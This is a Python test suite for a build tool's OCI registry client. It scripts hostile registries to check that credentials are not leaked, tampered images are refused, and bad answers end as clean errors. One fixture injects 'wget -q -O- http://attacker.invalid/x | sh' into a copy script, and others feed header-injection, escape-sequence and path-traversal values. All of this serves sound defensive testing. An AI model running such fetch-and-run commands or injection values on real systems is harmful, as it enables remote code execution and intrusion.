"""The registry store against registries that lie, redirect, drip and answer what no registry
should. Each test scripts a hostile server (tests/support/token_registry.py), alone or in front
of the real CNCF registry, and checks what reached which server: credentials stay with the
registry's origin, only images exactly as gpubuild makes them are accepted, and every bad answer
is a clear error (exit 1, or 2 for bad input), never a traceback, a hang or unbounded memory."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import stat
import tarfile
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
import requests

import builder.stores.oci as oci
from builder.errors import BadInputError, IntegrityError, StoreError
from builder.manifest import Manifest, manifest_to_bytes
from builder.ociimage import (
    IMAGE_MANIFEST,
    LAYER_TAR,
    Blob,
    StaticBusybox,
    build_image,
    copy_script,
    image_tag,
)
from builder.stores import registry_client
from builder.stores.oci import OciStore, open_oci_store
from builder.stores.registry_auth import RegistryCredentials, registry_credentials
from builder.stores.urls import parse_oci_url
from tests.helpers import new_repository, publish_to, run_cli, write_profile
from tests.support.token_registry import (
    PASS,
    Reply,
    Request,
    scripted_registry,
    self_signed,
    token_registry,
)
from tests.support.wheels import build_wheel

SHA = "a" * 64
PASSWORD = "s3cret-registry-pw"


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    from tests.support.index import serve_index

    dists = tmp_path_factory.mktemp("hostile-dists")
    wheels = [
        build_wheel(dists, "alpha", "1.0", files={"alpha/__init__.py": b"VALUE = 'alpha'\n",
                                                  "alpha/data/big.bin": os.urandom(300_000)}),
        build_wheel(dists, "beta", "2.0", files={"beta/__init__.py": b"VALUE = 'beta'\n"}),
        build_wheel(dists, "whiteout", "1.0", files={"whiteout/__init__.py": b"",
                                                     ".wh..wh..opq": b""}),
    ]  # fmt: skip
    with serve_index(wheels, tmp_path_factory.mktemp("hostile-index")) as url:
        yield url


@pytest.fixture(autouse=True)
def _isolated(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path / "docker-config"))
    for name in ("GPUBUILD_REGISTRY_USERNAME", "GPUBUILD_REGISTRY_PASSWORD",
                 "GPUBUILD_REGISTRY_HOST", "GPUBUILD_BUSYBOX"):  # fmt: skip
        monkeypatch.delenv(name, raising=False)


def _store(url: str, **env: str) -> OciStore:
    location, _ = parse_oci_url(url)
    return open_oci_store(location, {"DOCKER_CONFIG": os.environ["DOCKER_CONFIG"], **env})


def _credentials(**env: str) -> dict[str, str]:
    return {"GPUBUILD_REGISTRY_USERNAME": "ci", "GPUBUILD_REGISTRY_PASSWORD": PASSWORD, **env}


def _challenge(realm: str, scheme: str = "Bearer") -> Reply:
    header = f'{scheme} realm="{realm}",service="hostile"' if realm else scheme
    return Reply(401, {"WWW-Authenticate": header}, b'{"errors":[{"code":"UNAUTHORIZED"}]}')


def _profile(tmp_path: Path, heavy: tuple[str, ...] = ("alpha==1.0", "beta==2.0")) -> Path:
    return write_profile(tmp_path / "profiles", name="hostile", heavy=list(heavy), python="3.11")


# --- finding 1: credentials go to the registry's own origin only ------------------------------


def test_an_upload_sent_to_another_address_is_refused_and_that_address_gets_nothing(
    tmp_path: Path,
) -> None:
    with scripted_registry(lambda request: Reply(500), name="elsewhere") as elsewhere:

        def registry(request: Request) -> Reply:
            if request.authorization is None:
                return _challenge("", scheme="Basic")
            if request.method == "HEAD":
                return Reply(404)
            return Reply(202, {"Location": f"{elsewhere.url}/upload/1?state=x"})

        with scripted_registry(registry) as front:
            store = _store(f"oci+http://{front.address}/repo", **_credentials())
            blob = tmp_path / "blob"
            blob.write_bytes(b"layer bytes")
            digest = hashlib.sha256(b"layer bytes").hexdigest()
            with pytest.raises(StoreError, match="sent the upload to another address"):
                store.put_blob(digest, blob)
        assert elsewhere.received == []  # neither the bytes nor the Basic credentials
    assert [r.method for r in front.received] == ["HEAD", "HEAD", "POST"]


def test_a_redirected_download_gets_no_credentials_and_its_challenge_is_not_answered() -> None:
    with scripted_registry(
        lambda r: _challenge("" if r.path.startswith("/token") else "http://127.0.0.1:1/token"),
        name="storage",
    ) as storage:

        def registry(request: Request) -> Reply:
            if request.authorization is None:
                return _challenge("", scheme="Basic")
            return Reply(307, {"Location": f"{storage.url}/blob/{SHA}"})

        with scripted_registry(registry) as front:
            store = _store(f"oci+http://{front.address}/repo", **_credentials())
            with pytest.raises(StoreError, match="asks for credentials") as refused:
                store.open_blob(SHA)
    assert PASSWORD not in str(refused.value)
    # The storage got the GET once, without the Authorization header, and no token request.
    assert [(r.method, r.authorization) for r in storage.received] == [("GET", None)]


# --- finding 2: only the images gpubuild makes of a manifest --------------------------------


def _image_document(address: str, repository: str, reference: str) -> dict:
    answer = requests.get(
        f"http://{address}/v2/{repository}/manifests/{reference}",
        headers={"Accept": IMAGE_MANIFEST},
        timeout=30,
    )
    answer.raise_for_status()
    document: dict = answer.json()
    return document


def _push_image(address: str, repository: str, tag: str, document: dict) -> None:
    data = json.dumps(document, sort_keys=True, separators=(",", ":")).encode()
    answer = requests.put(
        f"http://{address}/v2/{repository}/manifests/{tag}",
        data=data,
        headers={"Content-Type": IMAGE_MANIFEST},
        timeout=30,
    )
    assert answer.status_code == 201, answer.text


def test_an_image_with_a_layer_its_manifest_does_not_name_is_refused_then_replaced(
    tmp_path: Path, index: str, registry_address: str
) -> None:
    """An image volume mounts every layer of the image: one more layer than the manifest's
    shards is a file nobody verified. The init script and fetch refuse the image; publishing
    again pushes the right one."""
    repository = new_repository("h")
    url = f"oci+http://{registry_address}/{repository}"
    profile = _profile(tmp_path)
    first = publish_to(profile, url, index, tmp_path)
    tag = image_tag(first.profile, first.digest)
    document = _image_document(registry_address, repository, tag)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        evil = tarfile.TarInfo("alpha/evil.py")
        evil.size = 11
        tar.addfile(evil, io.BytesIO(b"import os\n\n"[:11]))
    extra = Blob(LAYER_TAR, buffer.getvalue())
    _store(url)._put_bytes(extra)
    document["layers"].append({"mediaType": LAYER_TAR, "digest": extra.digest,
                               "size": len(extra.data)})  # fmt: skip
    _push_image(registry_address, repository, tag, document)

    refused = run_cli("init-script", str(profile), "--store", url, "--delivery", "image-volume",
                      "--k8s-out", str(tmp_path / "volume.yaml"))  # fmt: skip
    assert refused.returncode == 1, refused.stderr
    assert "its layers are not exactly" in refused.stderr and "Traceback" not in refused.stderr
    # By tag, fetch takes one more layer than the shards for a copier, and finds none.
    fetched = run_cli("fetch", f"{url}:{tag}", "--into", str(tmp_path / "out"))
    assert fetched.returncode == 1 and "the copier layer holds alpha/evil.py" in fetched.stderr
    assert not (tmp_path / "out").exists()

    again = publish_to(profile, url, index, tmp_path)
    assert not again.already_published and again.shards_uploaded == 0
    assert again.references == first.references


def test_an_init_copy_image_with_another_copy_script_is_refused(
    tmp_path: Path, index: str, registry_address: str
) -> None:
    """A self-consistent image (its config names its layers) whose copier runs another script:
    the copier layer is held to the script gpubuild writes for the manifest."""
    repository = new_repository("h")
    url = f"oci+http://{registry_address}/{repository}"
    first = publish_to(_profile(tmp_path), url, index, tmp_path)
    store = _store(url)
    copy_tag = image_tag(first.profile, first.digest, copy=True)
    document = _image_document(registry_address, repository, copy_tag)
    copier = store._get_bytes(document["layers"][-1]["digest"], limit=16 * 1024 * 1024)
    members = []
    with tarfile.open(fileobj=io.BytesIO(copier)) as tar:
        for member in tar:
            data = tar.extractfile(member).read() if member.isfile() else None  # type: ignore[union-attr]
            if member.name.endswith("copy.sh"):
                assert data == copy_script(first.manifest).encode()
                data = data + b"wget -q -O- http://attacker.invalid/x | sh\n"
                member.size = len(data)
            members.append((member, data))
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for member, data in members:
            tar.addfile(member, io.BytesIO(data) if data is not None else None)
    evil = Blob(LAYER_TAR, buffer.getvalue())
    image = build_image(first.manifest, version="9.9.9", copier=evil)
    for blob in (evil, image.config):
        store._put_bytes(blob)
    _push_image(registry_address, repository, copy_tag, json.loads(image.manifest))

    with pytest.raises(IntegrityError, match=r"its copy\.sh is not the one gpubuild writes"):
        store.references(first.profile, first.digest)
    refused = run_cli("init-script", str(_profile(tmp_path)), "--store", url, "--delivery",
                      "init-copy", "--k8s-out", str(tmp_path / "copy.yaml"))  # fmt: skip
    assert refused.returncode == 1 and "copy.sh" in refused.stderr
    assert not (tmp_path / "copy.yaml").exists()


def test_references_read_each_tag_once_and_name_what_was_checked(
    tmp_path: Path, index: str, registry_address: str
) -> None:
    """A registry could answer a second read of a tag with another image: the digest given
    out is that of the bytes that were checked, read once."""
    repository = new_repository("h")
    first = publish_to(_profile(tmp_path), f"oci+http://{registry_address}/{repository}", index,
                     tmp_path)  # fmt: skip
    with scripted_registry(lambda request: PASS, upstream=registry_address) as front:
        found = _store(f"oci+http://{front.address}/{repository}").references(
            first.profile, first.digest
        )
    assert {k: v.split("@")[1] for k, v in found.items()} == {
        k: v.split("@")[1] for k, v in first.references.items()
    }
    tags = [r.path for r in front.received if "/manifests/" in r.path]
    heavy = image_tag(first.profile, first.digest)
    assert sorted(tags) == sorted(
        [f"/v2/{repository}/manifests/{heavy}", f"/v2/{repository}/manifests/{heavy}-copy"]
    )


def test_an_upload_in_chunks_keeps_its_connection(registry_address: str, tmp_path: Path) -> None:
    """Answers are read in a stream; one whose body is not needed is read to its end all the
    same, or closing it would close the connection and each 4 MiB chunk open a new one."""
    data = os.urandom(oci.UPLOAD_CHUNK * 2 + 1000)
    blob = tmp_path / "blob"
    blob.write_bytes(data)
    with scripted_registry(lambda request: PASS, upstream=registry_address) as front:
        store = _store(f"oci+http://{front.address}/{new_repository('h')}")
        assert store.put_blob(hashlib.sha256(data).hexdigest(), blob)
        assert store.has_blob(hashlib.sha256(data).hexdigest()) == len(data)
    methods = [r.method for r in front.received]
    assert methods == ["HEAD", "POST", "PATCH", "PATCH", "PATCH", "PUT", "HEAD"]
    assert front.connections == 1


# --- finding 3: whose credentials go where --------------------------------------------------


def test_environment_credentials_are_for_the_host_named_or_the_registry_given() -> None:
    env = _credentials()
    assert registry_credentials("any.example.com", env).password == PASSWORD
    assert not registry_credentials("any.example.com", env).bound_to_host
    tied = _credentials(GPUBUILD_REGISTRY_HOST="https://myacr.azurecr.io:443/")
    assert registry_credentials("myacr.azurecr.io", tied).bound_to_host
    assert registry_credentials("attacker.example.com", tied).anonymous


def test_environment_credentials_never_go_to_a_token_service_on_another_origin() -> None:
    with (
        scripted_registry(
            lambda r: Reply(200, {}, b'{"token":"issued-token-123"}'), name="auth"
        ) as auth,
        scripted_registry(lambda r: _challenge(f"{auth.url}/token")) as front,
    ):
        url = f"oci+http://{front.address}/repo"
        with pytest.raises(StoreError, match="GPUBUILD_REGISTRY_HOST"):
            _store(url, **_credentials()).has_blob(SHA)
        assert auth.received == []
        # Tied to this registry's host, they may go where its own challenge says.
        tied = _store(url, **_credentials(GPUBUILD_REGISTRY_HOST=front.address))
        with pytest.raises(StoreError):
            tied.has_blob(SHA)  # the front never takes a token: refused in the end
    expected = "Basic " + base64.b64encode(f"ci:{PASSWORD}".encode()).decode()
    assert [r.authorization for r in auth.received] == [expected, expected]


def test_plain_http_is_only_for_a_registry_on_loopback(tmp_path: Path) -> None:
    for url in ("oci+http://10.1.2.3:5000/a", "oci+http://registry.example.com/a"):
        result = run_cli("fetch", f"{url}@sha256:{SHA}", "--into", str(tmp_path / "out"))
        assert result.returncode == 2 and "only for a registry on this machine" in result.stderr
    assert parse_oci_url("oci+http://[::1]:5000/a")[0].scheme == "http"


def test_a_plain_http_token_realm_under_an_https_registry_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    certificate, key = self_signed(tmp_path)
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(certificate))
    with (
        scripted_registry(
            lambda r: Reply(200, {}, b'{"token":"issued-token-123"}'), name="auth"
        ) as auth,
        scripted_registry(
            lambda r: _challenge(f"{auth.url}/token"), tls=(certificate, key)
        ) as front,
    ):
        # Tied to the host: only the realm's scheme stands in the way.
        store = _store(
            f"oci://{front.address}/repo", **_credentials(GPUBUILD_REGISTRY_HOST=front.address)
        )
        with pytest.raises(StoreError, match="plain HTTP"):
            store.has_blob(SHA)
    assert auth.received == [] and len(front.received) == 1


# --- findings 4, 5, 10, 15: bounded, and errors rather than tracebacks ------------------------


def test_a_dripping_manifest_is_cut_at_its_deadline(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(registry_client, "_DOCUMENT_DEADLINE_S", 1.5)

    def drip() -> Iterator[bytes]:
        while True:
            yield b" "

    with scripted_registry(
        lambda r: Reply(200, {"Content-Length": "1000000"}, drip(), pause=0.2)
    ) as front:
        started = time.monotonic()
        with pytest.raises(StoreError, match="too slow"):
            _store(f"oci+http://{front.address}/repo").manifest_at("tag")
    assert time.monotonic() - started < 10


def test_a_slow_blob_is_cut_and_a_cut_one_is_a_clear_error(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # 1 s, and one more per 10 MB: the 10 MB blob below, sent at 10 kB/s, gets 2 s.
    monkeypatch.setattr(registry_client, "_BLOB_GRACE_S", 1.0)
    monkeypatch.setattr(registry_client, "_BLOB_MIN_RATE", 10_000_000)
    size = 10_000_000

    def slow(request: Request) -> Reply:
        if "slow" in request.path:
            return Reply(200, {"Content-Length": str(size)}, (b"x" * 1000 for _ in range(size)),
                         pause=0.1)  # fmt: skip
        return Reply(200, {"Content-Length": str(size)}, [b"x" * 1000], cut=True)

    started = time.monotonic()
    with scripted_registry(slow) as front:
        for path, words in (("slow", "too slow"), ("cut", "broke off")):
            store = _store(f"oci+http://{front.address}/{path}")
            stream = store.open_blob(SHA)
            with pytest.raises(StoreError, match=words):
                while stream.read(1 << 20):
                    pass
    assert time.monotonic() - started < 30


def test_huge_token_answers_and_error_bodies_are_not_read_whole() -> None:
    sent = {"token": 0, "error": 0}

    def endless(kind: str) -> Iterator[bytes]:
        for _ in range(100):  # 100 MB if nobody stops reading
            sent[kind] += 1
            yield b" " * (1 << 20)

    def registry(request: Request) -> Reply:
        if request.path.startswith("/token"):
            return Reply(200, {"Content-Length": str(100 << 20)}, endless("token"))
        if "error" in request.path:
            return Reply(500, {"Content-Length": str(100 << 20)}, endless("error"))
        return _challenge(f"http://{request.headers['host']}/token")

    with scripted_registry(registry) as front:
        with pytest.raises(IntegrityError, match="larger than"):
            _store(f"oci+http://{front.address}/repo").has_blob(SHA)
        with pytest.raises(StoreError, match="HTTP 500"):
            _store(f"oci+http://{front.address}/error").open_blob(SHA)
    assert sent["token"] < 20 and sent["error"] < 20  # what socket buffers hold, not 100 MB


@pytest.mark.parametrize(
    ("command", "answer", "words"),
    [
        # A blob's size: what publish asks first.
        ("publish-cache", Reply(200, {"Content-Length": "abc"}), "not a number"),
        ("fetch", Reply(200, {}, b"[" * 200_000), "not an image manifest"),
        ("fetch", Reply(200, {}, json.dumps({"config": {}, "layers": 5}).encode()),
         "not an image manifest"),
        ("fetch", Reply(401, {"WWW-Authenticate": "\x1b[31mEvil realm=x"}), "asks for unknown"),
        ("fetch", Reply(500, {}, json.dumps({"errors": [{"code": "\x1b[2J"}] + [{"code": "E_X"}]
                                             * 50}).encode()), "HTTP 500 E_X, E_X"),
    ],
)  # fmt: skip
def test_hostile_answers_exit_1_with_a_message(
    tmp_path: Path, command: str, answer: Reply, words: str
) -> None:
    with scripted_registry(lambda request: answer) as front:
        url = f"oci+http://{front.address}/repo"
        if command == "fetch":
            result = run_cli("fetch", f"{url}:tag", "--into", str(tmp_path / "out"))
        else:
            result = run_cli("publish-cache", str(_profile(tmp_path)), "--store", url)
    assert result.returncode == 1, result.stderr
    assert words in result.stderr and "Traceback" not in result.stderr
    assert "\x1b" not in result.stderr and result.stderr.count("E_X") <= 5


def test_a_token_that_is_not_a_header_value_is_refused_unechoed() -> None:
    token = "tok\r\nX-Injected: 1"
    with (
        scripted_registry(
            lambda r: (
                Reply(200, {}, json.dumps({"token": token}).encode())
                if r.path.startswith("/token")
                else _challenge(f"http://{r.headers['host']}/token")
            )
        ) as front,
        pytest.raises(StoreError, match="characters no header may carry") as refused,
    ):
        _store(f"oci+http://{front.address}/repo").has_blob(SHA)
    assert "X-Injected" not in str(refused.value)


def test_a_password_beyond_latin_1_works_on_the_bearer_path(
    tmp_path: Path, index: str, registry_address: str
) -> None:
    password = "pässwörd€-1"
    with token_registry(registry_address, "ci", password, "refresh-unused") as front:
        url = f"oci+http://{front.url.split('://', 1)[1]}/{new_repository('h')}"
        store = _store(url, GPUBUILD_REGISTRY_USERNAME="ci", GPUBUILD_REGISTRY_PASSWORD=password)
        assert store.has_blob(SHA) is None
        assert front.tokens_issued


def test_an_identity_token_meeting_a_basic_challenge_says_so() -> None:
    with scripted_registry(lambda r: _challenge("", scheme="Basic")) as front:
        store = _store(f"oci+http://{front.address}/repo")
        store.credentials = RegistryCredentials("the Docker config", identity_token="idtoken-1")
        with pytest.raises(StoreError, match="identity token"):
            store.has_blob(SHA)


def test_a_shard_cut_mid_download_fails_fetch_cleanly(
    tmp_path: Path, index: str, registry_address: str
) -> None:
    repository = new_repository("h")
    first = publish_to(_profile(tmp_path), f"oci+http://{registry_address}/{repository}", index,
                     tmp_path)  # fmt: skip
    shard = max(first.manifest.shards, key=lambda s: s.bytes)

    def cut(request: Request) -> Reply | None:
        if request.path.endswith(f"/blobs/sha256:{shard.sha256}") and request.method == "GET":
            return Reply(200, {"Content-Length": str(shard.bytes)}, [b"\0" * 1000], cut=True)
        return PASS

    with scripted_registry(cut, upstream=registry_address) as front:
        digest = first.references["image"].split("@")[1]
        result = run_cli("fetch", f"oci+http://{front.address}/{repository}@{digest}",
                         "--into", str(tmp_path / "out"))  # fmt: skip
    assert result.returncode == 1 and "broke off" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr and not (tmp_path / "out").exists()


# --- finding 9: no whiteout names ------------------------------------------------------------


def test_a_wheel_with_a_whiteout_name_is_not_packed(tmp_path: Path, index: str) -> None:
    profile = _profile(tmp_path, heavy=("whiteout==1.0",))
    result = run_cli("pack", str(profile), "--out", str(tmp_path / "pack"), "--index-url", index)
    assert result.returncode == 1, result.stderr
    assert ".wh..wh..opq" in result.stderr and "whiteout" in result.stderr
    assert not list((tmp_path / "pack").glob("**/manifest.json"))


# --- findings 12 and 14: the Docker config, in Docker's order ---------------------------------


def _helper(folder: Path, name: str, script: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"docker-credential-{name}"
    path.write_text(f"#!/bin/sh\n{script}\n")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)


def _config(folder: Path, document: dict) -> dict[str, str]:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "config.json").write_text(json.dumps(document))
    return {"DOCKER_CONFIG": str(folder), "PATH": f"{folder / 'bin'}:{os.environ['PATH']}"}


def test_the_docker_config_is_read_in_dockers_order(tmp_path: Path) -> None:
    folder = tmp_path / "docker"
    auth = base64.b64encode(b"from-auths:auths-password").decode()
    _helper(folder / "bin", "store",
            'echo \'{"Username":"from-store","Secret":"store-secret"}\'')  # fmt: skip
    _helper(folder / "bin", "empty", "echo 'credentials not found in native keychain'; exit 1")
    env = _config(folder, {"credsStore": "store", "auths": {"reg.example.com": {"auth": auth}}})
    found = registry_credentials("reg.example.com", env)
    assert (found.source, found.username) == ("docker-credential-store", "from-store")
    # A helper with nothing for the registry passes on to the next source.
    env = _config(folder, {"credHelpers": {"reg.example.com": "empty"}, "credsStore": "empty",
                           "auths": {"https://reg.example.com:443/v1/": {"auth": auth}}})  # fmt: skip
    assert registry_credentials("reg.example.com", env).username == "from-auths"


@pytest.mark.parametrize(
    ("helper", "script", "error", "words"),
    [
        ("../../tmp/evil", "exit 0", BadInputError, "not a credential helper name"),
        ("latin", "printf '\\377\\376'", StoreError, "not UTF-8 JSON"),
        ("broken", "echo 'keychain locked' >&2; exit 3", StoreError, "exit 3): keychain locked"),
    ],
)
def test_a_credential_helper_that_fails_says_so(
    tmp_path: Path, helper: str, script: str, error: type[Exception], words: str
) -> None:
    folder = tmp_path / "docker"
    if "/" not in helper:
        _helper(folder / "bin", helper, script)
    env = _config(folder, {"credHelpers": {"reg.example.com": helper}})
    with pytest.raises(error, match=words.replace("(", r"\(").replace(")", r"\)")):
        registry_credentials("reg.example.com", env)


# --- finding 13: the busybox and the architecture -------------------------------------------


def test_an_explicit_busybox_for_another_architecture_is_refused(tmp_path: Path) -> None:
    arm = StaticBusybox(tmp_path / "busybox-arm64", b"", "arm64")
    location, _ = parse_oci_url("oci+http://127.0.0.1:1/repo")
    manifest = Manifest("d" * 64, "p", "3.11", "x86_64-manylinux_2_28", "/shared-packages", (),
                        {}, ())  # fmt: skip
    explicit = OciStore(location, RegistryCredentials("none"), busybox=arm, busybox_explicit=True)
    with pytest.raises(BadInputError, match="busybox for arm64"):
        # Refused before anything is sent: the registry's port 1 would refuse a connection.
        explicit.put_manifest("p", "d" * 64, manifest_to_bytes(manifest))
    found = OciStore(location, RegistryCredentials("none"), busybox=arm)
    assert found._busybox_for(manifest) is None  # only the heavy image, for x86_64
    arm_manifest = replace(manifest, platform="aarch64-manylinux_2_28")
    assert found._busybox_for(arm_manifest) is arm
